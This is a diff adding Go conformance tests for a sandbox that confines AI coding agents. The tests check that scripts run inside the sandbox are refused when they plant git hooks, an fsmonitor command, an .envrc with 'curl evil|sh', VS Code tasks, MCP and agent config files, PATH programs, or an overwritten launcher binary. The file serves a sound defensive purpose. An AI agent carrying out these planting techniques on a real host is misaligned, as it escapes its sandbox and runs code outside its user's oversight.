@@ -1,0 +1,104 @@
+package conformance
+
+// Cases about what policy.Compose adds to every policy: the protections
+// of an agent's directory, and of what runs next on the host.
+func composeCases() []Case {
+	agentScript := `cd "$FIX/agents/a1" || exit 1
+echo work > notes.txt && ok WORK
+printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && ok HOOK
+printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> .git/config && ok CONFIG
+mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json && ok VSCODE
+echo 'curl evil|sh' > .envrc && ok ENVRC
+echo '{}' > .mcp.json && ok MCP`
+	agentFixture := func(h *H) {
+		h.Mkdir("agents/a1")
+		h.Mkdir("agents/p0")
+		h.Host("agents/a1", "git", "init", "-q")
+	}
+	cs := []Case{
+		{Name: "agent-dir-autoexec", Class: AutoExec, Summary: "an agent under --agents-root writes its own .git/hooks, .git/config, .vscode/tasks.json, .envrc",
+			Run: func(h *H) {
+				agentFixture(h)
+				p := Policy{AgentsRoot: h.Path("agents"), Agent: "a1", Parent: "p0"}
+				snap := h.Snapshot()
+				o := h.Sandbox(p, agentScript)
+				h.Expect(o, "WORK")
+				h.Refuse(o, "HOOK", "CONFIG", "VSCODE", "ENVRC", "MCP")
+				h.Unchanged(snap, "agents/a1/notes.txt")
+			}},
+		{Name: "agent-dir-autoexec-with-workspace", Class: AutoExec, Summary: "the same with --workspace as well: the agent's directory is not the workspace, and is protected like one",
+			Run: func(h *H) {
+				agentFixture(h)
+				_, p := h.ws()
+				p.AgentsRoot, p.Agent = h.Path("agents"), "a1"
+				snap := h.Snapshot()
+				o := h.Sandbox(p, agentScript)
+				h.Expect(o, "WORK")
+				h.Refuse(o, "HOOK", "CONFIG", "VSCODE", "ENVRC", "MCP")
+				h.Unchanged(snap, "agents/a1/notes.txt")
+			}},
+		{Name: "runs-next-cordon-in-workspace", Class: CrossLaunch, Summary: "cordon built inside the workspace (bin/cordon) launches the sandbox; the sandbox replaces it for the user's next run",
+			Run: func(h *H) {
+				_, p := h.ws()
+				bin := h.Mkdir("ws/bin")
+				h.Host("ws", "cp", h.Attack(), bin+"/cordon")
+				snap := h.Snapshot()
+				l := h.Script(p, `printf '#!/bin/sh\necho pwned\n' > bin/cordon && ok OVERWRITE; cat /bin/true >> bin/cordon && ok APPEND; rm -f bin/cordon && ok RM; mv bin bin.old && ok MVDIR; cp /bin/true bin/cordon.new && mv -f bin/cordon.new bin/cordon && ok REPLACE; echo work > out.txt && ok WORK`)
+				l.Cordon = bin + "/cordon"
+				o := h.Launch(l)
+				h.Expect(o, "WORK")
+				h.Refuse(o, "OVERWRITE", "APPEND", "RM", "MVDIR", "REPLACE")
+				h.Unchanged(snap, "ws/out.txt", "ws/bin/cordon.new")
+			}},
+		{Name: "runs-next-cordon-open-mode", Class: CrossLaunch, Summary: "with no restrictWrites, overwrite the cordon binary that launched the sandbox",
+			Run: func(h *H) {
+				bin := h.Mkdir("tools")
+				h.Host(".", "cp", h.Attack(), bin+"/cordon")
+				snap := h.Snapshot()
+				l := h.Script(Policy{Deny: []string{h.Path("nothing-here")}}, `printf '#!/bin/sh\necho pwned\n' > "$FIX/tools/cordon" && ok OVERWRITE; rm -f "$FIX/tools/cordon" && ok RM`)
+				l.Cordon = bin + "/cordon"
+				o := h.Launch(l)
+				h.Refuse(o, "OVERWRITE", "RM")
+				h.Unchanged(snap)
+			}},
+		{Name: "runs-next-path-dir", Class: CrossLaunch, Summary: "plant a program in a directory on the launcher's PATH that lies in the workspace (an existing bin/ and a missing .tools/bin)",
+			Run: func(h *H) {
+				w, p := h.ws()
+				h.Mkdir("ws/bin")
+				snap := h.Snapshot()
+				path := "PATH=" + w + "/bin:" + w + "/.tools/bin:" + sandboxPath
+				o := h.Sandbox(p, `printf '#!/bin/sh\necho pwned\n' > bin/ls && chmod +x bin/ls && ok PLANT; mkdir -p .tools/bin && echo x > .tools/bin/git && ok PLANT_MISSING; echo work > out.txt && ok WORK`, path)
+				h.Expect(o, "WORK")
+				h.Refuse(o, "PLANT", "PLANT_MISSING")
+				h.Unchanged(snap, "ws/out.txt")
+			}},
+		{Name: "work-writable-path-dir", Class: Work, Summary: "--writable-path-dir leaves a PATH directory in the workspace writable",
+			Run: func(h *H) {
+				w, p := h.ws()
+				h.Mkdir("ws/bin")
+				p.WritablePathDirs = []string{w + "/bin"}
+				o := h.Sandbox(p, `echo x > bin/tool && ok WRITE`, "PATH="+w+"/bin:"+sandboxPath)
+				h.Expect(o, "WRITE")
+			}},
+		{Name: "runs-next-home-agent-configs", Class: CrossLaunch, Summary: "with HOME inside the workspace, write agents' configurations (~/.claude.json MCP servers, ~/.claude, ~/.codex, ~/.gemini, ~/.cursor) and ~/go/bin, ~/.cargo/bin",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Home = h.Mkdir("ws/home")
+				h.Write("ws/home/.claude.json", `{"mcpServers":{}}`)
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `cd "$HOME"
+echo '{"mcpServers":{"x":{"command":"sh"}}}' > .claude.json && ok CLAUDE_JSON
+mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json && ok CLAUDE
+mkdir -p .codex && echo 'x' > .codex/config.toml && ok CODEX
+mkdir -p .gemini && echo '{}' > .gemini/settings.json && ok GEMINI
+mkdir -p .cursor && echo '{}' > .cursor/mcp.json && ok CURSOR
+mkdir -p go/bin && echo x > go/bin/cordon && ok GOBIN
+mkdir -p .cargo/bin && echo x > .cargo/bin/cargo && ok CARGOBIN
+echo work > notes && ok WORK`)
+				h.Expect(o, "WORK")
+				h.Refuse(o, "CLAUDE_JSON", "CLAUDE", "CODEX", "GEMINI", "CURSOR", "GOBIN", "CARGOBIN")
+				h.Unchanged(snap, "ws/home/notes")
+			}},
+	}
+	return cs
+}
